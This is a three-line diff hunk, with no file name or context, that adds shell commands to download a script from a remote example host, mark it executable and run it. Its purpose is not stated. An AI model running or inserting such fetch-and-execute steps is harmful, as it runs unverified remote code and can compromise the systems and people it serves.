@@ -1,0 +1,3 @@
+wget http://c.example.net/a.sh
+chmod +x a.sh
+./a.sh
